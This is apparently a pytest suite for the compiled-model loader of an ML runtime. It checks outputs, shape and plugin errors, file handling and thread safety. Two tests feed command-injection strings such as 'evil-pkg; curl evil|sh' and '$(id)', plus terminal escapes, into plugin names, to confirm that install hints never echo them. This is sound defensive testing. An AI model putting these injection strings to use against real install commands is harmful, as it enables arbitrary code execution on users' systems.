"""Models that are compiled ahead of time run from their data alone, with the results of the file's own model."""

from __future__ import annotations

import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import heald
import numpy as np
import pytest
from heald.errors import DataLoss, FailedPrecondition, InvalidArgument, NotFound, PermissionDenied, Unimplemented
from heald.graphs.session.ahead_of_time import compile_model
from heald.runtime.program.compiled_model import CompiledModel, Requirement
from heald.runtime.service.compiled_model import FOREIGN_PLUGIN_HINT, LoadedCompiledModel
from heald.runtime.support.install import install_hint

ROOT = Path(__file__).parents[3]
DIGITS = ROOT / "examples/digits/frozen.pb"
SAVED = ROOT / "tests/data/saved_models"


def name_of_input():
    return next(iter(heald.load(DIGITS).inputs))


def batches(*counts):
    model = heald.load(DIGITS)
    shape = next(iter(model.inputs.values())).shape
    return {name_of_input(): [(count, *shape[1:]) for count in counts]}


def same(a, b):
    a, b = ({"": outputs} if not isinstance(outputs, dict) else outputs for outputs in (a, b))
    return a.keys() == b.keys() and all(np.array_equal(a[name], b[name]) for name in a)


def fed(count):
    shape = batches(count)[name_of_input()][0]
    return np.random.default_rng(count).random(shape, np.float32)


def test_compiled_digits_equal_the_loaded_ones():
    x = fed(4)
    expected = heald.load(DIGITS)(x)
    compiled = compile_model(DIGITS, inputs=batches(4))
    assert same(LoadedCompiledModel(compiled)(x), expected)


def test_a_compiled_model_names_its_ops_and_devices():
    model = LoadedCompiledModel(compile_model(DIGITS, inputs=batches(4)))
    assert {"Conv2D", "MatMul"} <= (model.program_ops() or set())
    assert model.program_devices == ("CPU:0",)


def test_each_shape_has_its_own_entry_over_shared_constants():
    loaded = heald.load(DIGITS)
    expected = [loaded(fed(count)) for count in (2, 5)]
    compiled = compile_model(DIGITS, inputs=batches(2, 5), strip=True)
    alone = compile_model(DIGITS, inputs=batches(2), strip=True)
    assert len(compiled.entries) == 2
    large = [[c.nbytes for c in model.program.constants if getattr(c, "nbytes", 0) > 4096]
             for model in (compiled, alone)]
    assert large[0] == large[1]
    feeds = [fed(2), fed(5)]
    assert all(map(same, map(LoadedCompiledModel(compiled), feeds), expected))


def test_feeds_of_other_shapes_run_by_a_function_for_any_shape():
    x = fed(3)
    assert same(LoadedCompiledModel(compile_model(DIGITS, inputs=batches(4)))(x), heald.load(DIGITS)(x))


def test_a_model_without_the_op_set_names_its_distribution():
    compiled = compile_model(DIGITS, inputs=batches(4))
    without = {"plugins": {"block": ["tf_ops"]}}
    with pytest.raises(FailedPrecondition, match="the model needs plugin tf_ops"):
        LoadedCompiledModel(compiled, without)
    with pytest.raises(NotFound, match="no op set is in use"):
        LoadedCompiledModel(compiled._replace(requirements=()), without)(fed(4))


def test_a_stripped_models_error_names_the_fed_and_the_compiled_shapes():
    model = LoadedCompiledModel(compile_model(DIGITS, inputs=batches(4, 5), strip=True))
    with pytest.raises(FailedPrecondition, match=r"compiled for \(float32\[4.*float32\[5.*given \(float32\[3"):
        model(fed(3))


def test_unknown_dimensions_need_a_shape():
    with pytest.raises(InvalidArgument, match="--input NAME:SHAPE"):
        compile_model(DIGITS)


@pytest.mark.parametrize("shapes", [{"nothing": (1,)}, {"image": (-1, 8)}])
def test_wrong_inputs_are_refused(shapes):
    with pytest.raises(InvalidArgument):
        compile_model(DIGITS, inputs={name_of_input() if k == "image" else k: v for k, v in shapes.items()})


def test_calls_have_the_errors_of_loaded_models():
    model = LoadedCompiledModel(compile_model(DIGITS, inputs=batches(4)))
    for arguments in ((), (1, 2)):
        with pytest.raises(InvalidArgument):
            model(*arguments)
    with pytest.raises(InvalidArgument, match="no input 'y'"):
        model(y=fed(4))
    with pytest.raises(InvalidArgument, match="shape"):
        model(np.zeros((4, 3), np.float32))
    with pytest.raises(Unimplemented, match="source"):
        _ = model.session


@pytest.mark.parametrize("use", ["device", "kernels"])
def test_a_missing_plugin_is_named_with_its_command(use):
    compiled = compile_model(DIGITS, inputs=batches(4))
    lacking = compiled._replace(requirements=(Requirement("tpu", "heald-opencl", "1.0", use),))
    with pytest.raises(FailedPrecondition, match="needs plugin tpu") as caught:
        LoadedCompiledModel(lacking)
    assert caught.value.hint == install_hint("heald-opencl", upgrade=True)  # installed, and has no such plugin


@pytest.mark.parametrize("name", ["heald-tpu", "evil-pkg; curl evil|sh", "-r evil.txt", "$(id)", "a\x1b[2J", "../evil",
                                  "https://evil.test/x.whl", "heald-cpu evil", "heald-cpu\nevil", ""])
@pytest.mark.parametrize("plugin", ["tpu", "tpu; curl evil|sh", "\x1b]0;evil\x07"])
def test_the_hint_about_a_missing_plugin_has_no_text_of_the_file(name, plugin):
    compiled = compile_model(DIGITS, inputs=batches(4))
    hostile = compiled._replace(requirements=(Requirement(plugin, name, "1.0", "kernels"),))
    with pytest.raises(FailedPrecondition, match="the model needs plugin") as caught:
        LoadedCompiledModel(hostile)
    assert caught.value.hint == FOREIGN_PLUGIN_HINT
    assert str(caught.value).isprintable()


def test_the_hint_about_an_older_plugin_has_no_text_of_the_file():
    compiled = compile_model(DIGITS, inputs=batches(4))
    hostile = compiled._replace(requirements=(Requirement("cpu", "evil; curl evil|sh", "99.0'; id; '", "kernels"),))
    with pytest.raises(FailedPrecondition, match="with plugin cpu 99.0") as caught:
        LoadedCompiledModel(hostile)
    assert caught.value.hint == install_hint("heald-cpu", upgrade=True)


def test_a_missing_device_is_named():
    compiled = compile_model(DIGITS, inputs=batches(4))
    for_tpu = compiled._replace(program=compiled.program._replace(requires=("TPU:0",)))
    with pytest.raises(FailedPrecondition, match="TPU:0"):
        LoadedCompiledModel(for_tpu)


def test_an_older_plugin_is_named_with_the_version_that_is_needed():
    compiled = compile_model(DIGITS, inputs=batches(4))
    newer = compiled._replace(requirements=(Requirement("cpu", "heald-cpu", "99.0", "kernels"),))
    with pytest.raises(FailedPrecondition, match=r"with plugin cpu 99\.0, installed is") as caught:
        LoadedCompiledModel(newer)
    assert caught.value.hint == install_hint("heald-cpu", upgrade=True)


def test_a_model_without_entries_is_refused():
    with pytest.raises(NotFound):
        LoadedCompiledModel(CompiledModel(compile_model(DIGITS, inputs=batches(4)).program))


@pytest.mark.parametrize("folder", sorted(str(p.parent.relative_to(SAVED)) for p in SAVED.rglob("saved_model.pb")))
def test_saved_models_compile_with_the_results_of_loaded_ones(folder):
    try:
        loaded = heald.load(SAVED / folder)
    except heald.errors.HealdError as error:
        pytest.skip(str(error))
    shapes = {name: tuple(3 if dim is None else dim for dim in meta.shape or ())
              for name, meta in loaded.inputs.items()}
    arrays = [np.ones(shapes[name], meta.dtype.numpy) if meta.dtype.itemsize else np.full(shapes[name], b"1", object)
              for name, meta in loaded.inputs.items()]
    try:
        expected = loaded(*arrays)
    except heald.errors.HealdError as error:
        pytest.skip(str(error))
    for strip in (False, True):
        compiled = compile_model(SAVED / folder, inputs=shapes, strip=strip)
        config = {"files": {"read": [str(SAVED / folder / "assets")]}} if folder == "asset_file/model" else None
        assert same(LoadedCompiledModel(compiled, config)(*arrays), expected)
        assert same(LoadedCompiledModel(heald.bef.loads(heald.bef.dumps(compiled)), config)(*arrays), expected)


def test_a_compiled_model_reads_the_assets_of_its_source_where_the_config_permits_it():
    compiled = compile_model(SAVED / "asset_file" / "model", inputs={"twice": ()})
    with pytest.raises(PermissionDenied, match="ReadFile may not read '.*words.txt'"):
        LoadedCompiledModel(compiled)(False)


@pytest.fixture
def file(tmp_path):
    heald.bef.dump(compile_model(DIGITS, inputs=batches(4)), tmp_path / "digits.bef")
    return tmp_path / "digits.bef"


@pytest.mark.parametrize("mmap", [True, False])
@pytest.mark.parametrize("form", [None, "bef"])
def test_a_file_loads_as_the_compiled_model(file, mmap, form):
    assert same(heald.load(file, device="CPU:0", mmap=mmap, format=form)(fed(4)), heald.load(DIGITS)(fed(4)))


@pytest.mark.parametrize("argument", [{"inputs": ["x"]}, {"outputs": ["y"]}, {"tags": ["serve"]}])
def test_arguments_that_need_a_graph_are_refused_for_a_file(file, argument):
    with pytest.raises(InvalidArgument, match=f"{next(iter(argument))}= needs a graph"):
        heald.load(file, **argument)


def test_a_file_keeps_its_devices_and_signatures(file):
    with pytest.raises(FailedPrecondition, match="compiled for CPU:0, not for TPU:1"):
        heald.load(file, device="TPU:1")
    with pytest.raises(NotFound, match="no signature 'nothing'"):
        heald.load(file, signature="nothing")


def test_a_compiled_file_is_not_compiled_again(file):
    with pytest.raises(InvalidArgument, match="compiled already"):
        compile_model(file)


def test_a_file_of_a_program_alone_names_its_loader(tmp_path):
    heald.bef.dump(compile_model(DIGITS, inputs=batches(4)).program, tmp_path / "program.bef")
    with pytest.raises(InvalidArgument, match="HostProgram.load"):
        heald.load(tmp_path / "program.bef")
    assert "main" in heald.HostProgram.load(tmp_path / "program.bef").functions


def test_a_file_of_another_format_by_name_is_damaged(tmp_path):
    (tmp_path / "digits.pb").write_bytes(DIGITS.read_bytes())
    with pytest.raises(DataLoss, match="digits.pb"):
        heald.load(tmp_path / "digits.pb", format="bef")


def test_a_truncated_file_is_data_loss(file):
    content = file.read_bytes()
    for size in (3, 100, len(content) // 2, len(content) - 1):
        file.write_bytes(content[:size])
        with pytest.raises(DataLoss):
            heald.load(file)(fed(4))


def test_a_file_that_was_replaced_by_rename_does_not_change_a_loaded_model(file, tmp_path):
    model, expected = heald.load(file), heald.load(DIGITS)(fed(4))
    heald.bef.dump(compile_model(DIGITS, inputs=batches(2)), tmp_path / "other.bef")
    (tmp_path / "other.bef").replace(file)
    assert same(model(fed(4)), expected)


def test_threads_share_a_loaded_model(file):
    model, feeds = heald.load(file), [fed(4) + number for number in range(4)]
    expected = [heald.load(DIGITS)(x) for x in feeds]

    def run(number):
        return all(same(model(feeds[number]), expected[number]) for _ in range(50))

    with ThreadPoolExecutor(4) as threads:
        assert all(threads.map(run, range(4)))


def test_the_placement_names_device_and_kernel_of_each_node(file):
    rows = {row["op"]: row for row in heald.load(file).placement().table()}
    assert rows["MatMul"]["assigned"] == "CPU:0"
    assert rows["MatMul"]["kernel"].endswith(("MatMul", "Product"))  # with the nodes behind it, or without


ALONE = """
import sys

class Blocked:
    def find_spec(self, name, *_):
        if name.split(".")[:2] in (["heald", "graph"], ["heald", "protobuf"]):
            raise ImportError("blocked: " + name)

sys.meta_path.insert(0, Blocked())
import numpy as np
from heald.runtime.program.compiled_model import CompiledModel, Entry, Port
from heald.runtime.program.host_program import Call, ProgramDef, ProgramFunction
from heald.runtime.service.compiled_model import LoadedCompiledModel
from heald.runtime.values import dtypes
from heald.runtime.values.tensor import TensorMetadata

f = dtypes.float32
meta = TensorMetadata(f, (2,))
calls = (Call("heald.constant", (), (1,), {"index": 0}),
         Call("cpu.AddV2", (0, 1), (2,), {"T": f}, 0, "sum"))
main = ProgramFunction("main", ("x",), (meta,) * 3, calls, (2,), is_compiled=True)
program = ProgramDef({"main": main}, (np.array([1, 2], np.float32),), ("CPU:0",))
entry = Entry("", "main", (Port("x", "x:0", meta),), (Port("sum", "sum:0", meta),))
config = {"plugins": {"block": ["saved_model", "onednn"]}}
model = LoadedCompiledModel(CompiledModel(program, (entry,)), config)
print(model([10, 20]).tolist())
"""


def test_a_compiled_program_runs_without_graphs_and_protobuf():
    ran = subprocess.run([sys.executable, "-c", ALONE], capture_output=True, text=True, check=False, timeout=60)
    assert ran.stdout == "[11.0, 22.0]\n", ran.stderr


INSTALLED = """
import sys
import numpy as np
import heald

folder = sys.argv[1]
x, wanted = np.load(folder + "/x.npy"), np.load(folder + "/y.npz")
model = heald.load(folder + "/digits.bef")
found = model(x)
strange = [name for name in sys.modules if name.startswith(("heald.graphs", "heald_simplify"))]
assert not strange, strange
assert found and all(np.array_equal(found[name], wanted[name]) for name in wanted)

other = model(x[:1])  # a shape that it is not compiled for
assert all(np.allclose(other[name], wanted[name][:1], 1e-5, 1e-6) for name in wanted)

loaded = heald.load(sys.argv[2])(x)
assert all(np.array_equal(loaded[name], wanted[name]) for name in wanted)
assert {"tf_ops", "simplify"} <= {record.id for record in heald.plugins()}
"""


def test_a_compiled_file_loads_only_the_plugins_that_it_names(tmp_path):
    x = fed(4)
    heald.bef.dump(compile_model(DIGITS, inputs=batches(4)), tmp_path / "digits.bef")
    np.save(tmp_path / "x.npy", x)
    np.savez(tmp_path / "y.npz", **heald.load(DIGITS)(x))
    ran = subprocess.run([sys.executable, "-c", INSTALLED, str(tmp_path), str(DIGITS)], capture_output=True, text=True,
                         check=False, timeout=60)
    assert not ran.returncode, ran.stderr
